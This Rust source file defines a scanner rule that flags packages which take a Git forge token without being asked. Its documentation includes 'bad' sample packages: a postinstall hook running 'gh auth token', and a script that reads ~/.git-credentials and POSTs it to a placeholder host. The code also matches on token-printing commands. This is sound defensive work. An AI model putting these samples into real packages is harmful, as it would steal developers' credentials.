//! # A forge's token is taken unasked
//!
//! At install or import, a command prints the token that the forge's command line or git keeps, or the file
//! that holds it leaves the machine.
//!
//! ## Why it matters
//!
//! With the token an attacker reads private repositories, makes public ones to drop secrets in, and commits
//! workflows.
//!
//! ## Known benign uses
//!
//! Release tools read the token from a documented variable, and commands of a service read `.netrc`, when a
//! person or a pipeline starts them.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const { execSync } = require("child_process");
//! const token = execSync("gh auth token", { encoding: "utf8" }).trim(); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), os = require("os");
//! const text = fs.readFileSync(os.homedir() + "/.git-credentials", "utf8");
//! require("https").request({ host: "collector.invalid", method: "POST" }).end(text); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "bin": {"x": "cli.js"}}
//! == cli.js
//! const { execSync } = require("child_process");
//! const token = process.env.GITHUB_TOKEN || execSync("gh auth token", { encoding: "utf8" }).trim();
//! fetch("https://api.github.com/user", { headers: { authorization: `token ${token}` } });
//! ```
//!
//! ## References
//!
//! - Nx: S1ngularity postmortem (August 2025)

use crate::prelude::*;

/// A forge's token is taken unasked.
pub struct GitTokenTaken;

impl Rule for GitTokenTaken {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "git-token-taken",
            title: "A forge's token is taken unasked",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1528",
            covers: &["collect-git-tokens"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_asked = |command: &&CommandFact| command.runs.iter().any(prints_token);
        for command in facts.unasked_commands().filter(is_asked) {
            found.at(command.trigger, &command.locus, "takes the token of a forge's command line");
        }
        for flow in facts
            .flows(|source| *source == Source::SecretFile(FileClass::GitCredential), Sink::leaves_machine)
        {
            if flow.trigger.runs_unasked() {
                found.flow(flow);
            }
        }
    }
}

fn prints_token(run: &Run) -> bool {
    let Run::Program { name, arguments } = run else { return false };
    let name = name.rsplit(['/', '\\']).next().unwrap_or(name);
    let words: Vec<&str> = arguments.iter().map(String::as_str).collect();
    match (name.trim_end_matches(".exe"), words.as_slice()) {
        ("gh", ["auth", "token", ..]) | ("git", ["credential", "fill", ..]) => true,
        ("gh" | "glab", ["auth", "status", flags @ ..]) => {
            flags.iter().any(|flag| matches!(*flag, "-t" | "--show-token"))
        }
        _ => false,
    }
}
